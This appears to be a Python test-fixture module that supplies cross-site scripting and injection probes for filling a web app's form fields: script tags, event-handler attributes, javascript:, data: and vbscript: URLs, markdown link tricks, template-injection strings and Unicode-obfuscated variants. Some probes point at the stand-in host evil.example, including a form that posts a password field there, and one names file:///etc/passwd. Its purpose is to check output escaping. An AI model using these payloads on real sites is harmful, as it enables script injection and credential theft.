"""What someone could type or import to make a page do what it should not."""

PROBE = "<xss-probe onclick=alert(1)>sonde</xss-probe>"
EVALUATED = "1234568"  # what `{{ 1234567|add:1 }}` would become

TEXTS = (
    PROBE,
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT >",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)><animate onbegin=alert(1)>",
    "<svg><script href='data:,alert(1)'/>",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<a href='javascript:alert(1)'>a</a>",
    "<form action='https://evil.example'><input name=password>",
    "<base href='https://evil.example/'>",
    "<style>@import'//evil.example'</style><b style='x:expression(1)'>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<math><mtext><xss-probe onclick=1>",
    "\"'><xss-probe onclick=alert(1)>",
    '" onfocus="alert(1)" autofocus="',
    "' onmouseover='alert(1)",
    "</textarea><script>alert(1)</script>",
    "</title></script><xss-probe onclick=1>",
    "<!--><script>alert(1)</script>-->",
    "--!><img src=x onerror=alert(1)>",
    "]]><script>alert(1)</script>",
    "{{ 1234567|add:1 }}{% debug %}{# #}${1234567+1}",
    "&lt;script&gt;alert(1)&lt;/script&gt;&#60;script&#62;",
    "＜script＞alert(1)＜/script＞",
    "\u202e<tpircs/>)1(trela<tpircs>\u202c",
    "<\u200bscript>a</\u200bscript><scr\u00adipt>",
    "[a](javascript:alert(1))",
    "[b](  JaVaScRiPt:alert(1))",
    "[c](java\tscript:alert(1))",
    "[d](&#106;avascript:alert(1))",
    "[e](javascript&colon;alert(1))",
    "[f](data:text/html;base64,PHNjcmlwdD4=)",
    "[g](vbscript:msgbox(1))",
    "[h](\u0001javascript:alert(1))",
    "[i](%6Aavascript:alert(1))",
    "[j](ｊavascript:alert(1))",
    "<javascript:alert(1)>",
    "<data:text/html,a>",
    "[k][r]\n\n[r]: javascript:alert(1)",
    "![l](javascript:alert(1))",
    '![m](https://evil.example/a.png "onerror=alert(1)")',
    "[![n](x)](javascript:alert(1))",
    "[o](https://a.example \"t' onclick='alert(1)\")",
    "[p](https://a.example '\"><xss-probe onclick=1>')",
    "[q](<javascript:alert(1)>)",
    "[[r]](javascript:alert(1))",
    "`<script>alert(1)</script>`",
    "    <script>alert(1)</script>",
    "```<script>\nalert(1)\n```",
    '[s](//evil.example/a "b")',
    "[t](blob:https://a.example/x)",
    "[u](file:///etc/passwd)",
)
URLS = (
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    " javascript:alert(1)",
    "\tjavascript:alert(1)",
    "java\tscript:alert(1)",
    "java\nscript:alert(1)",
    "\u0001javascript:alert(1)",
    "javascript&colon;alert(1)",
    "javascript://a.example/%0aalert(1)",
    "javascript:https://a.example/",
    "data:text/html,<script>alert(1)</script>",
    "data:text/html;base64,PHNjcmlwdD4=",
    "vbscript:msgbox(1)",
    "blob:https://a.example/x",
    "file:///etc/passwd",
    'https:"><xss-probe onclick=alert(1)>',
    'https://a.example/"onmouseover="alert(1)',
    "https://a.example/'><xss-probe onclick=alert(1)>",
    "ｊavascript:alert(1)",
    "\u202ejavascript:alert(1)",
    "\u200bjavascript:alert(1)",
    "view-source:https://a.example",
    "ftp://a.example/",
    "//evil.example/",
)


def filling(length, turn):
    """As many of these texts as a column holds, from another one each time."""
    if length is None:
        return "\n\n".join(TEXTS[turn:] + TEXTS[:turn])
    found = ""
    for place in range(len(TEXTS)):
        one = TEXTS[(turn + place) % len(TEXTS)].replace("\n", " ")
        if len(found) + len(one) + 1 <= length:
            found = f"{found} {one}".strip()
    return found
